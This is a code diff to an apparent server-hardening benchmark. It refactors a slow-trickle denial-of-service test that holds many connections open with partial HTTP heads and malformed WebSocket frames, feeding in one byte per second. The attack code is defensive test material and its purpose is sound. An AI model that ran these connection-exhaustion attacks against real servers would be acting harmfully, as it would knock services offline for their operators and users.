@@ -5,26 +5,20 @@ second. Some stayed for 100 s and more, a frame for ever; an HTTP/2 window of 0 
 """
 
 from collections import Counter
+from functools import partial
 
 import trio
 
 from bench.attack.harness import Report
-from bench.attack.tools import ATTACKERS, Target, connect, request
+from bench.attack.tools import ATTACKERS, UPGRADE, Target, connect, crowd, request
 
 NUMBER = "12.15"
 SHORT = 4.0
 _AT_ONCE = 20  # of each kind
 
-_HANDSHAKE = {
-    "Upgrade": "websocket",
-    "Connection": "Upgrade",
-    "Sec_WebSocket_Key": "dGhlIHNhbXBsZSBub25jZQ==",
-    "Sec_WebSocket_Version": "13",
-}
-
 
 async def attack(target: Target, seconds: float) -> dict[str, int]:
-    upgrade = request(target, "/ws", **_HANDSHAKE)
+    upgrade = request(target, "/ws", **UPGRADE)
     kinds = {
         "nothing": b"",
         "head": request(target, "/")[:-2],
@@ -33,27 +27,19 @@ async def attack(target: Target, seconds: float) -> dict[str, int]:
         "frame": upgrade + b"\x81\xfe\xff\xff\0\0\0\0",
         "fragments": upgrade + b"\x01\x81\0\0\0\0x",
     }
-    counts = Counter[str]()
-    with trio.move_on_after(seconds):
-        async with trio.open_nursery() as nursery:
-            for name, sent in kinds.items():
-                for _ in range(_AT_ONCE):
-                    nursery.start_soon(_trickle, target, name, sent, counts)
-    return dict(counts)
+    return await crowd(
+        _AT_ONCE * len(kinds), seconds, partial(_trickle, target, list(kinds.items())), again=0.1
+    )
 
 
-async def _trickle(target: Target, name: str, sent: bytes, counts: Counter[str]) -> None:
-    while True:
-        try:
-            async with await connect(target, ATTACKERS[0]) as stream:
-                counts[name] += 1
-                await stream.send_all(sent)
-                while True:
-                    await trio.sleep(1)
-                    await stream.send_all(b"x")
-        except (OSError, trio.BrokenResourceError):
-            counts["closed"] += 1
-            await trio.sleep(0.1)
+async def _trickle(target: Target, kinds: list[tuple[str, bytes]], number: int, counts: Counter[str]) -> None:
+    name, sent = kinds[number % len(kinds)]
+    async with await connect(target, ATTACKERS[0]) as stream:
+        counts[name] += 1
+        await stream.send_all(sent)
+        while True:
+            await trio.sleep(1)
+            await stream.send_all(b"x")
 
 
 def check(report: Report) -> None:
